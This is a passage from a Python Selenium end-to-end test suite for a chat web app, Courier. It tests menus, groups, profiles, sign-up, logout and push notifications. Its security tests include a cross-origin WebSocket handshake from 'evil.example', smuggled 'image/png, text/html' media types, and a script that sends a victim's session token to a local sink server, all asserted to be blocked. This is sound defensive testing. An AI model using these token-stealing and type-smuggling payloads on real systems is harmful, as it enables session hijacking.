        wait_until(lambda: not alice.find("#menu").is_displayed(), "the menu closed")
        self.assertTrue(alice.find("#chat-bar").is_displayed())
        self.assertIn("actions", focused("class"), "focus back on the button")
        alice.press(Keys.ENTER)
        wait_until(lambda: focused("data-action") == "reply", "the menu open again")
        alice.press(Keys.ENTER)
        wait_until(lambda: alice.find("#composer-context").is_displayed(), "replying")
        self.assertEqual(active(), alice.find("#draft"))
        # Escape in the draft drops the reply and keeps the conversation; a second one leaves it.
        alice.press(Keys.ESCAPE)
        wait_until(lambda: not alice.find("#composer-context").is_displayed(), "the reply dropped")
        self.assertTrue(alice.find("#chat-bar").is_displayed())
        alice.press(Keys.ESCAPE)
        wait_until(lambda: not alice.find("#chat-bar").is_displayed(), "the conversation left")

    def test_10_groups_profiles_mute(self):
        alice, bob = self.alice, self.bob
        alice.find("#new-chat").click()
        form = alice.visible("#dialog form[data-form=group]")
        inputs = form.find_elements(By.TAG_NAME, "input")
        inputs[0].send_keys("bookclub")
        inputs[1].send_keys("读书会 📚")
        inputs[2].send_keys("bob, carol" + Keys.ENTER)
        wait_until(lambda: alice.find("#chat-title").text == "读书会 📚", "the group open")
        alice.send("@bob 欢迎")
        bob.visible('#conversations [data-key="g:bookclub"] .mention-badge')
        self.assertEqual(bob.read('#conversations [data-key="g:bookclub"] .conversation-title'), "读书会 📚")
        bob.conversation("g:bookclub")
        mention = bob.message("@bob 欢迎").find_element(By.CSS_SELECTOR, ".mention")
        self.assertEqual(mention.text, "@bob")
        # The group's history says who joined and what it was named, from the events (round three), and keeps
        # saying it after a reload.
        notices = lambda: bob.js("return [...document.querySelectorAll('#messages .notice')].map(e => e.textContent)")
        wait_until(lambda: "carol joined" in notices() and any("named the group “读书会 📚”" in n for n in notices()),
                   "the joined and named lines")
        bob.driver.refresh()
        bob.wait_online()
        bob.conversation("g:bookclub")
        bob.message("@bob 欢迎")
        wait_until(lambda: "carol joined" in notices(), "the lines after a reload")
        # Manage: make bob an admin.
        alice.find("#manage").click()
        promote = wait_until(lambda: next((b for b in alice.all('#dialog li[data-user="bob"] button')
                                           if b.text == "Make admin"), None), "the promote button")
        promote.click()
        wait_until(lambda: alice.find('#dialog li[data-user="bob"] .role').text == "admin", "bob an admin")
        self.assertNotIn("null", alice.read("#dialog"))
        self.shot_both("group", only=alice)
        alice.find("#dialog .close").click()
        # Mute at bob.
        bob.conversation("g:bookclub")
        from selenium.webdriver.support.select import Select
        Select(bob.find("#notify")).select_by_value("NOTIFY_LEVEL_NONE")
        bob.visible('#conversations [data-key="g:bookclub"] .muted')
        # The server keeps it: a reloaded page shows it muted still.
        bob.driver.refresh()
        bob.wait_online()
        bob.visible('#conversations [data-key="g:bookclub"] .muted')
        # A display name in Chinese, seen by bob.
        alice.find("#me").click()
        name = alice.visible("#dialog form input")
        name.clear()
        name.send_keys("爱丽丝" + Keys.ENTER)
        wait_until(lambda: "Saved" in alice.find("#dialog .note[aria-live]").text, "the name saved")
        # An empty field and Enter clear nothing (round three: clearing is said outright).
        name.clear()
        name.send_keys(Keys.ENTER)
        wait_until(lambda: "Type a name" in alice.find("#dialog .note[aria-live]").text, "the empty name refused")
        # A picture.
        path = os.path.join(self.folder, "avatar.png")
        with open(path, "wb") as file:
            file.write(png(200, 160))
        alice.find('#dialog input[type=file]').send_keys(path)
        wait_until(lambda: alice.all("#me img.avatar"), "alice's own picture shown")
        alice.find("#dialog .close").click()
        wait_until(lambda: bob.read('#conversations [data-key="u:alice"] .conversation-title') == "爱丽丝",
                   "bob seeing alice's name")
        wait_until(lambda: bob.all('#conversations [data-key="u:alice"] img.avatar'), "bob seeing alice's picture")
        self.assertEqual(bob.read('#conversations [data-key="u:alice"] .conversation-title'), "爱丽丝")
        # "Clear the name" clears it: bob sees alice's user name again.
        alice.find("#me").click()
        alice.visible('#dialog [data-action="clear-name"]').click()
        wait_until(lambda: "cleared" in alice.find("#dialog .note[aria-live]").text, "the name cleared")
        alice.find("#dialog .close").click()
        wait_until(lambda: bob.read('#conversations [data-key="u:alice"] .conversation-title') == "alice",
                   "bob seeing alice's user name again")

    def test_11_sign_up_by_invitation_and_log_out(self):
        link = self.server.cli("invite", "create", "--url", self.server.base).strip()
        self.assertTrue(link.startswith(self.server.base + "/#invite="), link)
        token = link.split("#invite=")[1]
        page = Page(self.server.base)
        try:
            # A refused login says why, and stays on the form.
            page.visible("#login-user").send_keys("alice")
            page.find("#login-password").send_keys("not the password" + Keys.ENTER)
            wait_until(lambda: page.read("#login-error") == "Wrong user name or password.", "the refusal shown")
            page.driver.get(link)
            page.visible("#invite-row")
            self.assertEqual(page.find("#login-invite").get_attribute("value"), token)
            page.find("#login-user").clear()
            page.find("#login-user").send_keys("dora")
            page.find("#login-password").clear()
            page.find("#login-password").send_keys("a long password" + Keys.ENTER)
            page.wait_online()
            self.assertEqual(page.driver.current_url, self.server.base + "/")
            stored = page.js("return localStorage.getItem('courier.session')")
            self.assertEqual(json.loads(stored)["user"], "dora")
            # Reloading logs in with the stored token.
            page.driver.refresh()
            page.wait_online()
            old = json.loads(page.js("return localStorage.getItem('courier.session')"))["token"]
            page.find("#me").click()
            page.visible("#dialog [data-action=logout]").click()
            page.visible("#login-user")
            self.assertIsNone(page.js("return localStorage.getItem('courier.session')"))
            import urllib.request
            with self.assertRaises(urllib.error.HTTPError) as caught:
                urllib.request.urlopen(urllib.request.Request(f"{self.server.base}/media/{'0' * 64}/ticket",
                                                              method="POST", headers={"Authorization": f"Bearer {old}"}))
            self.assertEqual(caught.exception.code, 401, "the logged-out token no longer works")
            caught.exception.close()
        finally:
            page.quit()

    def test_12_another_origin_is_refused(self):
        target = f"ws://127.0.0.1:{self.server.ports[2]}/ws"
        page_html = ("<!doctype html><title>waiting</title><script>"
                     f"const s = new WebSocket({json.dumps(target)});"
                     "s.onopen = () => { document.title = 'opened'; };"
                     "s.onclose = () => { if (document.title !== 'opened') document.title = 'refused'; };"
                     "</script>").encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page_html)

            def log_message(self, *arguments):
                pass

        # Threads: a connection Chromium opens ahead and leaves idle must not hold up the page's own.
        other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        other.daemon_threads = True
        threading.Thread(target=other.serve_forever, daemon=True).start()
        try:
            self.bob.driver.get(f"http://localhost:{other.server_port}/")
            wait_until(lambda: self.bob.driver.title in ("opened", "refused"), "the other site's socket to settle")
            self.assertEqual(self.bob.driver.title, "refused")
        finally:
            other.shutdown()
            other.server_close()
        # The same refusal, seen on the wire: 403 before any session.
        with socket.create_connection(("127.0.0.1", int(self.server.ports[2])), timeout=LIMIT) as connection:
            connection.sendall(
                (f"GET /ws HTTP/1.1\r\nHost: 127.0.0.1:{self.server.ports[2]}\r\nUpgrade: websocket\r\n"
                 "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
                 "Origin: http://evil.example\r\n\r\n").encode())
            self.assertTrue(connection.recv(1024).startswith(b"HTTP/1.1 403"))
        self.bob.driver.get(self.server.base + "/")
        self.bob.wait_online()

    def test_12b_smuggled_media_type_runs_no_script(self):
        """Round three's first finding, replayed: carol sends alice a "picture" whose type smuggles a second one
        (`image/png, text/html`), an HTML page that loads carol's script from /media, which would post alice's token
        to carol. Each layer is checked: the server refuses the listed types, serves the same bytes sent as image/png
        only as a download, the page opens a picture in itself and never as a document, and its policy runs no script
        from /media even when one is put on the page."""
        stolen = []

        class Sink(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                stolen.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *arguments):
                pass

        sink = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Sink)
        sink.daemon_threads = True
        threading.Thread(target=sink.serve_forever, daemon=True).start()
        attacker = socket.create_connection(("127.0.0.1", int(self.server.ports[1])), timeout=LIMIT)
        packets = attacker.makefile("rb")

        def send(fields, payload=b""):
            attacker.sendall(json.dumps(dict(fields, size=len(payload))).encode() + b"\r\n" + payload)

        def answer(*types):
            while True:
                header = json.loads(packets.readline().rstrip(b"\r\n"))
                packets.read(int(header.get("size", 0)))
                if header["type"] in types:
                    return header

        try:
            send({"type": "auth", "user": "carol", "password": PASSWORD})
            token = answer("welcome")["token"]
            script = (f"window.__pwned = 1; fetch('http://127.0.0.1:{sink.server_port}/?t=' + "
                      "encodeURIComponent(localStorage.getItem('courier.session')));").encode()
            script_sha = hashlib.sha256(script).hexdigest()
            # Sent first as a plain picture, so that carol can have a ticket for it to put in her page.
            send({"type": "img", "to": "alice", "id": "plain-script.png", "mime": "image/png", "name": "script.png"},
                 script)
            self.assertEqual(answer("error", "ack")["type"], "ack")
            ticket = media_ticket(self.server.base, token, script_sha)
            page = (f'<!doctype html><script src="/media/{script_sha}?ticket={ticket}"></script>').encode()
            page_sha = hashlib.sha256(page).hexdigest()
            for body, smuggled in ((script, "image/png, text/javascript"), (page, "image/png, text/html"),
                                   (page, "image/png,text/html"), (page, "image/png;x=1, text/html")):
                send({"type": "img", "to": "alice", "id": f"smuggled-{smuggled}", "mime": smuggled, "name": "cat.png"},
                     body)
                refused = answer("error", "ack")
                self.assertEqual((refused["type"], refused.get("code")), ("error", "invalid-request"), refused)
            # The same bytes as one type the server takes: served as downloads, never as what they say they are.
            send({"type": "img", "to": "alice", "id": "plain-cat.png", "mime": "image/png", "name": "cat.png"}, page)
            self.assertEqual(answer("error", "ack")["type"], "ack")
            for sha in (script_sha, page_sha):
                request = urllib.request.Request(f"{self.server.base}/media/{sha}",
                                                 headers={"Authorization": f"Bearer {token}"})
                with urllib.request.urlopen(request) as served:
                    self.assertEqual(served.headers["Content-Type"], "application/octet-stream")
                    self.assertEqual(served.headers["Content-Disposition"], "attachment")
                    self.assertEqual(served.headers["X-Content-Type-Options"], "nosniff")

            # alice clicks the "picture": it opens in the page, as an <img>, and no document or window is made.
            alice = self.alice
            alice.conversation("u:carol")
            wait_until(lambda: len(alice.all("#messages button.image-link")) >= 2, "both pictures shown")
            handles = len(alice.driver.window_handles)
            alice.all("#messages button.image-link")[-1].click()
            wait_until(lambda: alice.js("return document.getElementById('viewer').open"), "the viewer open")
            wait_until(lambda: alice.js("const i = document.querySelector('#viewer img'); "
                                        "return !!i && (i.classList.contains('broken') || (i.complete && !!i.src))"),
                       "the viewer's picture settled")
            self.assertEqual(len(alice.driver.window_handles), handles)
            self.assertEqual(alice.js("return document.querySelectorAll('iframe, object, embed').length"), 0)
            alice.press(Keys.ESCAPE)
            wait_until(lambda: not alice.js("return document.getElementById('viewer').open"), "the viewer closed")

            # Were carol's script put on alice's page (the blob document's step), the policy would not run it.
            alice_token = json.loads(alice.js("return localStorage.getItem('courier.session')"))["token"]
            outcome = alice.driver.execute_async_script(
                """
                const [src, done] = arguments;
                document.addEventListener('securitypolicyviolation',
                  (e) => done(`blocked ${e.effectiveDirective}`), { once: true });
                const script = document.createElement('script');
                script.src = src;
                script.onload = () => done('loaded');
                document.head.append(script);
                """,
                f"/media/{script_sha}?ticket={media_ticket(self.server.base, alice_token, script_sha)}")
            self.assertEqual(outcome, "blocked script-src-elem")
            self.assertIsNone(alice.js("return window.__pwned ?? null"))
            policy = urllib.request.urlopen(self.server.base + "/").headers["Content-Security-Policy"]
            self.assertIn(f"script-src 127.0.0.1:{self.server.ports[2]}/web/;", policy)
            self.assertEqual(stolen, [], "alice's token left the page")
        finally:
            attacker.close()
            sink.shutdown()
            sink.server_close()

    def test_12c_what_a_new_user_tripped_over(self):
        """Round three's walk-through, the page's part: pictures that load late keep the newest message in view; a
        voice note fits its bubble on a phone and shows its length unplayed; a group's title is not squeezed by the
        alert menu; Recall and Edit only within their windows; sizes in decimal units as the command line says them;
        the sign-up form as the server takes accounts; a page under a name not allowed says so."""
        alice, bob = self.alice, self.bob
        # Pictures sent while bob looks at the bottom: when they load, the newest message is still in view.
        bob.conversation("u:alice")
        paths = []
        for index in range(3):
            path = os.path.join(self.folder, f"tall-{index}.png")
            with open(path, "wb") as file:
                file.write(png(40, 600))
            paths.append(path)
        alice.conversation("u:bob")
        alice.find("#file").send_keys("\n".join(paths))
        wait_until(lambda: not alice.all("#uploads .upload"), "the pictures sent")
        alice.send("after the pictures 图片之后")
        bob.message("after the pictures 图片之后")
        wait_until(lambda: bob.js("return [...document.querySelectorAll('#messages img.image')]"
                                  ".slice(-3).every(i => i.complete && i.naturalHeight === 600)"), "the pictures loaded")
        wait_until(lambda: bob.js("const b = document.getElementById('messages');"
                                  "return b.scrollHeight - b.scrollTop - b.clientHeight < 5"), "bob's view at the bottom")
        # Sizes as the command line says them (decimal).
        sizes = bob.driver.execute_async_script(
            "const done = arguments[0]; import('/web/text.js').then(m => done([m.byteSize(30000000), "
            "m.byteSize(999), m.byteSize(1500)]));")
        self.assertEqual(sizes, ["30 MB", "999 B", "1.5 kB"])
        # Mentions read as the server reads them: a trailing mark is not the name's, a name ends at any non-ASCII
        # letter, an address is no mention.
        read = bob.driver.execute_async_script(
            "const done = arguments[0]; import('/web/text.js').then(m => done(["
            "m.mentions('谢谢 @bob.', 'bob'), m.mentions('你好@bob你好', 'bob'), m.mentions('mail@bob.example', 'bob'),"
            "m.mentions('＠@bob', 'bob'), m.richText('thanks @bob.', new Set(['bob']))[1].textContent]));")
        self.assertEqual(read, [True, True, False, False, "@bob"])
        # Recall and Edit are offered within their windows only (the welcome says them: 2 min and 48 h here).
        alice.send("recall me maybe")
        alice.open_menu("recall me maybe")
        self.assertIn("left)", alice.read("#menu [data-action=recall]"))
        alice.press(Keys.ESCAPE)
        alice.js("window.__realNow = Date.now; Date.now = () => window.__realNow() + 3 * 60 * 1000;")
        try:
            alice.open_menu("recall me maybe")
            self.assertEqual(alice.all("#menu [data-action=recall]"), [])
            self.assertTrue(alice.all("#menu [data-action=edit]"), "edit stays within its 48 h")
            alice.press(Keys.ESCAPE)
        finally:
            alice.js("Date.now = window.__realNow;")
        # A voice note on a phone: inside its bubble, no sideways scrolling, its length known before playing.
        voice = os.path.join(self.folder, "语音.ogg")
        subprocess.run(["ffmpeg", "-nostdin", "-loglevel", "error", "-y", "-f", "lavfi", "-i",
                        "sine=frequency=440:duration=3", "-c:a", "libopus", voice], check=True, timeout=120)
        self.server.cli("send", "--as", "alice", "--password", PASSWORD, "--to", "bob", "--file", voice,
                        "--kind", "voice")
        phone = Page(self.server.base, 390, 844, phone=True)
        try:
            phone.log_in("bob")
            phone.conversation("u:alice")
            audio = wait_until(lambda: (phone.all("#messages audio.voice") or [None])[-1], "the voice note")
            wait_until(lambda: phone.js("return arguments[0].readyState >= 1 && arguments[0].duration > 2", audio),
                       "its length read from the metadata")
            inside = phone.js("const a = arguments[0].getBoundingClientRect();"
                              "const b = arguments[0].closest('.bubble').getBoundingClientRect();"
                              "return a.left >= b.left - 1 && a.right <= b.right + 1", audio)
            self.assertTrue(inside, "the player inside its bubble")
            self.assertLessEqual(phone.js("const m = document.getElementById('messages'); return m.scrollWidth - m.clientWidth"), 0)
            self.assertLessEqual(phone.js("return document.documentElement.scrollWidth"), phone.js("return window.innerWidth"))
            # A group's short title in full beside the alert menu.
            phone.find("#back").click()
            phone.conversation("g:bookclub")
            wait_until(lambda: phone.read("#chat-title") == "读书会 📚", "the group's title")
            self.assertTrue(phone.js("const t = document.getElementById('chat-title'); return t.scrollWidth <= t.clientWidth"),
                            "the title shown whole")
            phone.shot(self.shots, "phone-group-header")
        finally:
            phone.quit()
        # The sign-up form as this server (by invitation) takes accounts.
        info = json.loads(urllib.request.urlopen(self.server.base + "/api/v1/server").read())
        self.assertEqual(info["registration"], "invite")
        # A page read under a name --allow-origin does not list says so, and how to allow it.
        port = self.server.ports[2]
        named = Page(f"http://chat.example:{port}", arguments=("--host-resolver-rules=MAP chat.example 127.0.0.1",))
        try:
            named.visible("#login-user")
            wait_until(lambda: "--allow-origin http://chat.example:" in named.read("#login-error"), "the origin refused")
            # The invitation field shows with "Create an account" (this server takes accounts by invitation), laid
            # out as wide as the others.
            named.find("#login-switch").click()
            wait_until(lambda: named.find("#login-invite").is_displayed(), "the invitation field")
            widths = named.js("return ['login-user', 'login-invite'].map(i => document.getElementById(i).offsetWidth)")
            self.assertEqual(widths[0], widths[1], "the invitation field as wide as the others")
            lefts = named.js("return ['login-user', 'login-invite'].map(i => document.getElementById(i).getBoundingClientRect().left)")
            self.assertEqual(lefts[0], lefts[1], "and aligned with them")
        finally:
            named.quit()


    def test_13b_notifications_when_closed(self):
        """Web Push: asked for on a click, registered with the server; the service worker shows a push (one per
        conversation, "New message" when previews are hidden) and a click on it opens the conversation."""
        import sqlite3
        page = self.bob
        origin = self.server.base
        # A conversation with alice for the click to open.
        self.start_chat(self.alice, "bob")
        self.alice.send("通知のテスト")
        page.wait_online()
        page.driver.execute_cdp_cmd("Browser.grantPermissions", {"origin": origin, "permissions": ["notifications"]})
        endpoint = page.driver.execute_async_script(
            "const done = arguments[arguments.length - 1];"
            f"(async () => {{ {STAND_IN_SUBSCRIBE} }})().then(done, (e) => done('error: ' + e));")
        self.assertTrue(endpoint.startswith("https://push.invalid/"), endpoint)
        # Nothing is asked on load: the worker is there, no subscription yet.
        database = f"file:{os.path.join(self.server.data, 'courier.sqlite')}?mode=ro"
        def stored(query):
            with sqlite3.connect(database, uri=True) as connection:
                return connection.execute(query).fetchall()
        self.assertEqual(stored("SELECT endpoint FROM push_subscriptions"), [])
        page.click("#me")
        page.visible("#dialog input[data-setting=push]").click()
        wait_until(lambda: "On:" in page.read("#dialog .settings .note"), "notifications on")
        wait_until(lambda: stored("SELECT endpoint FROM push_subscriptions") == [(endpoint,)], "the subscription stored")
        scope = page.driver.execute_async_script(
            "const done = arguments[arguments.length - 1]; navigator.serviceWorker.ready.then((r) => done(r.scope));")
        self.assertEqual(scope, origin + "/")

        # A push, delivered as the push service would: through DevTools to the worker's registration.
        tools = DevTools(page.driver, "page", origin)
        try:
            tools.call("ServiceWorker.enable")
            # The live registration of the page's scope: one an update replaced is listed too, as deleted, and a
            # push delivered to it goes nowhere.
            def live(r):
                return r["scopeURL"] == origin + "/" and not r.get("isDeleted")
            registration = tools.event("ServiceWorker.workerRegistrationUpdated",
                                       lambda p: any(live(r) for r in p["registrations"]))
            registration_id = next(r["registrationId"] for r in registration["registrations"] if live(r))
            def push(payload):
                tools.call("ServiceWorker.deliverPushMessage", origin=origin, registrationId=registration_id,
                           data=json.dumps(payload, ensure_ascii=False))
            def shown():
                return page.driver.execute_async_script(
                    "const done = arguments[arguments.length - 1];"
                    "navigator.serviceWorker.ready.then((r) => r.getNotifications())"
                    ".then((ns) => done(ns.map((n) => [n.title, n.body, n.tag])));")
            base = {"conversation": {"user": "alice"}, "message_id": "m1", "seq": 1, "time_ms": 0, "from": "alice"}
            push({**base, "from_name": "愛麗絲 🌸", "text": "你好 👋🏽", "previews": True})
            wait_until(lambda: shown() == [["愛麗絲 🌸", "你好 👋🏽", "u:alice"]], "the notification")
            # A burst in one conversation leaves one notification, the newest.
            push({**base, "message_id": "m2", "seq": 2, "text": "مرحبا — second", "previews": True})
            wait_until(lambda: shown() == [["alice", "مرحبا — second", "u:alice"]], "the notification replaced")
            push({**base, "conversation": {"group": "team"}, "message_id": "m3", "previews": False})
            wait_until(lambda: sorted(shown()) == [["Courier", "New message", "g:team"],
                                                     ["alice", "مرحبا — second", "u:alice"]], "a hidden preview")
        finally:
            tools.close()

        # The previews setting is the user's, on the server.
        preview = page.visible("#dialog input[data-setting=push-previews]")
        self.assertTrue(preview.is_selected())
        preview.click()
        wait_until(lambda: stored("SELECT push_previews FROM users WHERE name = 'bob'") == [(0,)], "previews off")
        page.js("document.getElementById('dialog').close()")

        # A click on the conversation's notification opens it in the page (another conversation is open before).
        self.start_chat(page, "carol")
        wait_until(lambda: page.find("#chat-title").text == "carol", "carol's conversation open")
        worker = DevTools(page.driver, "service_worker", origin)
        try:
            clicked = worker.call("Runtime.evaluate", awaitPromise=True, returnByValue=True, expression=(
                "self.registration.getNotifications({tag: 'u:alice'}).then((ns) => {"
                " self.dispatchEvent(new NotificationEvent('notificationclick', {notification: ns[0]}));"
                " return ns.length; })"))
            self.assertEqual(clicked["result"]["value"], 1, clicked)
        finally:
            worker.close()
        wait_until(lambda: page.find("#chat-title").text == "alice" and page.find("#chat-bar").is_displayed(),
                   "the conversation opened by the click")
        self.assertIn("通知のテスト", page.texts())
        # Turned off: the server forgets the subscription.
        page.click("#me")
        toggle = page.visible("#dialog input[data-setting=push]")
        wait_until(toggle.is_selected, "the setting shown on")
        toggle.click()
        wait_until(lambda: stored("SELECT endpoint FROM push_subscriptions") == [], "the subscription removed")
        page.js("document.getElementById('dialog').close()")

    def test_13_screenshots(self):
        for size, (width, height) in (("desktop", (1280, 800)), ("phone", (390, 844))):
            page = Page(self.server.base, width, height, phone=size == "phone")
            try:
                page.shot(self.shots, f"{size}-login")
                page.log_in("bob")
                page.visible("#conversations .conversation")
                page.shot(self.shots, f"{size}-conversations")
                page.conversation("u:alice")
                page.message("the edited reply 改过")
                page.shot(self.shots, f"{size}-conversation")
                if size == "phone":
                    page.find("#back").click()
                page.conversation("g:bookclub")
                page.message("@bob 欢迎")
                page.shot(self.shots, f"{size}-group")
                # Every text on the screen readable: a contrast of 4.5:1 with what is behind it (WCAG AA).
                self.assertEqual(page.js(CONTRAST_CHECK), [], size)
                # Nothing wider than the screen.
                self.assertLessEqual(page.js("return document.documentElement.scrollWidth"),
                                     page.js("return window.innerWidth"), size)
            finally:
                page.quit()

    def shot_both(self, name, only=None):
        for label, page in (("alice", self.alice), ("bob", self.bob)):
            if only is None or page is only:
                page.shot(self.shots, f"desktop-{name}-{label}")


if __name__ == "__main__":
    if not os.path.exists(COURIER):
        sys.exit(f"{COURIER} not found: build first (swift build)")
    result = unittest.main(verbosity=2, exit=False).result
    sys.exit(0 if result.wasSuccessful() else 1)
